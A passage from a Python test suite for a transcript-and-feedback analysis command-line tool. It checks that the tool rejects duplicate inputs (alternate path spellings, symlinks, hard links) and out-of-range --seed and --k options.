    build_base(tmp, files=files)
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted duplicate", error_names=["g1.txt"])


@case("face_value", "dup_dot_slash_spelling")
def _(tmp):
    files = base_files()
    files.append({"path": "./transcripts/g1.txt", "kind": "transcript", "group": 2})
    build_base(tmp, files=files)
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted duplicate", error_names=["g1.txt"])


@case("face_value", "dup_double_slash_and_dot_segment")
def _(tmp):
    files = base_files()
    files.append(feedback_entry(path="feedback.xlsx"))
    files[-1]["path"] = ".//feedback.xlsx"
    files.append({"path": "transcripts/./g2.docx", "kind": "transcript", "group": 1})
    build_base(tmp, files=files)
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted duplicate",
                error_names=["feedback.xlsx", "g2.docx"])


@case("face_value", "dup_via_inside_symlink")
def _(tmp):
    files = base_files()
    files.append({"path": "latest_group1.txt", "kind": "transcript", "group": 1})
    build_base(tmp, files=files)
    os.symlink("transcripts/g1.txt", tmp / "ws" / "latest_group1.txt")
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted duplicate",
                error_names=["g1.txt", "latest_group1.txt"])


@case("face_value", "dup_via_hardlink")
def _(tmp):
    files = base_files()
    files.append({"path": "archive/g1_copy.txt", "kind": "transcript", "group": 1})
    build_base(tmp, files=files)
    (tmp / "ws" / "archive").mkdir()
    os.link(tmp / "ws" / "transcripts" / "g1.txt", tmp / "ws" / "archive" / "g1_copy.txt")
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted duplicate",
                error_names=["g1.txt", "g1_copy.txt"],
                note="ambiguous: a hard link is the same file (same inode and bytes)")


def _opt_case(tmp, extra, names, themes_cmd=False):
    build_base(tmp)
    out = str(tmp / "out")
    if themes_cmd:
        argv = ["themes", str(tmp / "ws" / "feedback.csv"), "--text-column", "ปัญหาที่พบ", "--out", out, "--quiet", *extra]
    else:
        argv = ["run", str(tmp / "ws" / "workshop.yml"), "--out", out, "--quiet", *extra]
    return Case(argv, out, must_fail=True, accept_reason="accepted out-of-range option", error_names=names)


@case("face_value", "opt_seed_negative")
def _(tmp):
    return _opt_case(tmp, ["--seed", "-1"], ["--seed"])


@case("face_value", "opt_seed_2pow70")
def _(tmp):
    return _opt_case(tmp, ["--seed", str(2 ** 70)], ["--seed"])


@case("face_value", "opt_seed_not_a_number")
def _(tmp):
    return _opt_case(tmp, ["--seed", "เจ็ด"], ["--seed"])


@case("face_value", "opt_k_zero")
def _(tmp):
    return _opt_case(tmp, ["--k", "0"], ["--k"])


@case("face_value", "opt_k_100000")
def _(tmp):
    return _opt_case(tmp, ["--k", "100000"], ["--k"])


@case("face_value", "opt_k_fraction")
def _(tmp):
    return _opt_case(tmp, ["--k", "1.5"], ["--k"])


@case("face_value", "opt_themes_k_above_row_count")
def _(tmp):
    return _opt_case(tmp, ["--k", "13"], ["--k"], themes_cmd=True)
